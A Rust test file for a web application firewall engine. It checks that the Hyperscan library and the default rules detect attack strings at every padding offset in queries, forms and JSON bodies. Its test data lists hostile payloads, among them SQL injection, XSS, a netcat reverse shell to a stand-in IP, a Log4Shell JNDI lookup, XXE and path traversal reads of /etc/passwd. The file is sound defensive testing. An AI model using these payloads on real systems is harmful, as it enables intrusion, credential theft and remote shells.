//! The matching library against the `regex` crate on the default
//! ruleset's patterns, compiled as the engine compiles them, with each
//! attack string placed after 1 to 201 bytes of other text: every text the
//! `regex` crate matches, the library must match too. Then the whole
//! engine, sweeps, raw-body screen and clean-value memory included: an
//! attack value after a long value in a query string, a form and a JSON
//! body (at the top level and nested three levels deep) must make its
//! default rule hold at every length of the value before it.
//!
//! Debian 12's Vectorscan (5.4.9), on a machine with AVX-512, fails both:
//! it misses some of these matches once about 64 bytes come before them.
//! The dataplane links Intel's Hyperscan 5.4.0 on x86_64 for that reason
//! (see `scripts/deps.sh` and the README).

use std::collections::BTreeMap;

use hyperscan::prelude::*;
use hyperscan::{BlockMode, Pattern as HsPattern};
use palisade_rules::{load_files, Operator, RuleBody};

use super::sweep_attack::{FORM, JSON};
use super::{client, default_rule_files, get, ids, request};
use crate::engine::gate::Reading;
use crate::engine::pattern::{expression, Expression};
use crate::engine::{Matcher, Snapshot};

/// Attack strings of the classes the default rules cover, lower case (as
/// the rules' chains leave them).
const ATTACKS: [&str; 16] = [
    "1;drop table users",
    "1; delete from users",
    "1 union select password from users",
    "x' or '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data/",
    ";cat /etc/passwd",
    "$(id)",
    "a|nc -e /bin/sh 203.0.113.9 4444",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "php://filter/resource=index.php",
    "<!doctype x [<!entity xxe system \"file:///etc/passwd\">]>",
    "you have an error in your sql syntax",
];

/// The expression the engine compiles for every `regex` test of the
/// default rules, once each.
fn default_patterns() -> Vec<Expression> {
    let ruleset = load_files(&default_rule_files()).expect("the default rules load");
    let mut out: Vec<Expression> = Vec::new();
    for rule in ruleset.iter() {
        let RuleBody::Signature(signature) = &rule.body else {
            continue;
        };
        signature.condition.for_each_test(&mut |test| {
            let regex = matches!(test.operator, Operator::Regex(_));
            let Some(expr) = expression(&test.operator).filter(|_| regex) else {
                return;
            };
            let known = |e: &Expression| e.text == expr.text && e.flags == expr.flags;
            if !out.iter().any(known) {
                out.push(expr);
            }
        });
    }
    out
}

#[test]
fn the_library_finds_what_the_regex_crate_finds_at_every_offset() {
    // Per pattern missing some match: how many, and the first one.
    let mut missed: BTreeMap<String, (usize, String)> = BTreeMap::new();
    let patterns = default_patterns();
    assert!(patterns.len() > 50, "the default rules' patterns are read");
    for expr in &patterns {
        let text = &expr.text;
        let db = HsPattern::with_flags(text.clone(), expr.flags)
            .and_then(|p| p.build::<BlockMode>())
            .expect("a default pattern compiles");
        let scratch = db.alloc_scratch().expect("scratch");
        let reading = Reading::of(expr.flags);
        let Ok(reference) = regex::bytes::RegexBuilder::new(text)
            .unicode(false)
            .case_insensitive(reading.caseless)
            .dot_matches_new_line(reading.dotall)
            .multi_line(reading.multiline)
            .build()
        else {
            continue;
        };
        for attack in ATTACKS {
            for n in 0..=200 {
                let subject = format!("{} {attack}", "x".repeat(n));
                if !reference.is_match(subject.as_bytes()) {
                    continue;
                }
                let mut found = false;
                db.scan(subject.as_bytes(), &scratch, |_, _, _, _| {
                    found = true;
                    Matching::Terminate
                })
                .ok();
                if !found {
                    let first = format!("{attack:?} after {} bytes", n + 1);
                    missed.entry(text.clone()).or_insert((0, first)).0 += 1;
                }
            }
        }
    }
    let library = crate::engine::library_version();
    assert!(
        missed.is_empty(),
        "patterns missing matches with libhs {library}: {missed:#?}"
    );
}

/// Attack values and the default rule each must make hold, from the
/// rules' own descriptions (`rules/default/*.yaml`).
pub(super) const RULE_OF_ATTACK: [(&str, u64); 6] = [
    ("1;drop table users", 100004),
    ("1 union select password from users", 100001),
    ("<script>alert(1)</script>", 101001),
    ("php://filter/resource=index.php", 103004),
    ("../../../../etc/passwd", 103001),
    ("${jndi:ldap://x.example/a}", 109001),
];

/// `text` with every byte but lower-case letters, digits, `.` and `-`
/// percent-encoded.
pub(super) fn url_encoded(text: &str) -> String {
    let byte = |b: u8| match b {
        b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-' => char::from(b).to_string(),
        _ => format!("%{b:02X}"),
    };
    text.bytes().map(byte).collect()
}

#[test]
fn default_rules_hold_after_a_long_value_in_queries_forms_and_json() {
    let snapshot = Snapshot::from_files(&default_rule_files()).expect("the default rules compile");
    let mut matcher = Matcher::new(std::sync::Arc::new(snapshot)).expect("scratch");
    let mut missed = Vec::new();
    for (attack, rule) in RULE_OF_ATTACK {
        let encoded = url_encoded(attack);
        let quoted = attack.replace('"', "\\\"");
        for n in 0..=200 {
            let pad = "x".repeat(n);
            let cases = [
                ("query", get(&format!("/s?p={pad}&q={encoded}"), "")),
                (
                    "form",
                    request(FORM, format!("p={pad}&q={encoded}").as_bytes()),
                ),
                (
                    "json",
                    request(
                        JSON,
                        format!(r#"{{"p":"{pad}","q":"{quoted}"}}"#).as_bytes(),
                    ),
                ),
                (
                    "nested json",
                    request(
                        JSON,
                        format!(r#"{{"p":"{pad}","o":{{"r":[{{"q":"{quoted}"}}]}}}}"#).as_bytes(),
                    ),
                ),
            ];
            for (kind, tx) in cases {
                // Twice: a value remembered clean must not hide the attack.
                for round in 0..2 {
                    let hits = matcher.inspect_transaction(&tx, client());
                    if !ids(&hits).contains(&rule) {
                        missed.push(format!(
                            "{rule} {kind} {attack:?} after {n} bytes, round {round}"
                        ));
                    }
                }
            }
        }
    }
    let library = crate::engine::library_version();
    assert!(
        missed.is_empty(),
        "{} misses with libhs {library}: {missed:#?}",
        missed.len()
    );
}
